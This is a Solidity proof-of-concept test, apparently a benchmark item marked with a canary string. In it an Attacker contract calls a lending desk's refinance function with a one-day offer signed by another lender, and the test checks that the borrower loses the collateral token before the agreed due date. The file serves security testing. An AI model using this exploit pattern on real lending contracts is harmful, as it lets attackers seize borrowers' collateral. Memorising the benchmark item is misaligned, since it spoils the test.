// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function run(LoanDesk desk, uint256 loan, Offer calldata o, bytes calldata signature) external {
        desk.refinance(loan, o, signature, new bytes32[](0), 0);
    }
}

contract Proof is Base {
    Attacker private other;
    uint64 private agreed;
    Offer private short;
    bytes private signature;

    function _start() internal override {
        other = new Attacker();
        agreed = desk.loanOf(signedLoan).dueAt;
        pebble.mint(EVA, 71);
        vm.prank(EVA);
        pebble.approve(address(vault), 71);
        short = _offer(dee, address(pebble), 45e18, 500, 1 days);
        short.nonce = 30;
        signature = _signed(short, DEE_KEY);
        _accept(EVA, short, DEE_KEY, 71);
    }

    function exploit() public {
        other.run(desk, signedLoan, short, signature);
    }

    function test_Exploit() public {
        exploit();
        require(!inTime(), "the borrower has time");
    }

    /// Until the day that the borrower agreed to, the token is the borrower's, or can be had back.
    function inTime() public view returns (bool) {
        address owner = pebble.ownerOf(1);
        if (block.timestamp > agreed || owner == BO) return true;
        return owner == address(vault) && desk.loanOf(vault.loanOf(address(pebble), 1)).dueAt >= agreed;
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
